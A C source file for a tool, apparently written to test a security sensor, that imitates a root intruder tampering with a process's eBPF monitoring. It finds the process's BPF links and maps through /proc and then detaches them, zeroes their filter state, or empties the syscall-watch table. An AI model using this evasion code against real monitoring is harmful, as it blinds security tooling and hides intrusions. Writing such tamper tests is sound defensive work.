// What an intruder who is root does to the sensor of a process: victim_tamper ACTION PID
//   detach  takes its program off the root cgroup
//   blind   clears the filters that it has in common with its programs
//   unhook  empties the table of what looks at each system call
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *action;
static int done;

static int bpf(int command, union bpf_attr *attributes)
{
	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

static int open_id(int command, unsigned id)
{
	union bpf_attr attributes = {.map_id = id};
	return bpf(command, &attributes);
}

static void take_off(unsigned id)
{
	int link = open_id(BPF_LINK_GET_FD_BY_ID, id);
	union bpf_attr attributes = {.link_detach = {.link_fd = link}};
	if (link >= 0 && bpf(BPF_LINK_DETACH, &attributes) == 0) // only those of cgroups can be
		done++;
	close(link);
}

static void write_to(unsigned id)
{
	struct bpf_map_info info = {};
	int map = open_id(BPF_MAP_GET_FD_BY_ID, id);
	union bpf_attr attributes = {.info = {.bpf_fd = map, .info_len = sizeof(info), .info = (unsigned long)&info}};
	if (map < 0 || bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes))
		err(1, "map %u", id);
	if (strcmp(action, "blind") == 0 && strstr(info.name, ".bss")) {
		unsigned long long *kinds = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, map, 0);
		if (kinds == MAP_FAILED)
			err(1, "cannot map %s", info.name);
		*kinds = 0;
		done++;
	}
	if (strcmp(action, "unhook") == 0 && strcmp(info.name, "native_calls") == 0) {
		for (unsigned key = 0; key < info.max_entries; key++) {
			union bpf_attr element = {.map_fd = map, .key = (unsigned long)&key};
			done += bpf(BPF_MAP_DELETE_ELEM, &element) == 0;
		}
	}
	close(map);
}

int main(int argc, char **argv)
{
	char path[300], line[128];
	unsigned id;
	if (argc != 3)
		errx(2, "usage: victim_tamper detach|blind|unhook PID");
	action = argv[1];
	snprintf(path, sizeof(path), "/proc/%s/fdinfo", argv[2]);
	DIR *directory = opendir(path);
	if (!directory)
		err(1, "%s", path);
	for (struct dirent *entry; (entry = readdir(directory));) {
		snprintf(path, sizeof(path), "/proc/%s/fdinfo/%s", argv[2], entry->d_name);
		FILE *file = fopen(path, "r");
		while (file && fgets(line, sizeof(line), file)) {
			if (sscanf(line, "link_id: %u", &id) == 1 && strcmp(action, "detach") == 0)
				take_off(id);
			if (sscanf(line, "map_id: %u", &id) == 1 && strcmp(action, "detach") != 0)
				write_to(id);
		}
		if (file)
			fclose(file);
	}
	if (!done)
		errx(1, "nothing to %s", action);
	return 0;
}
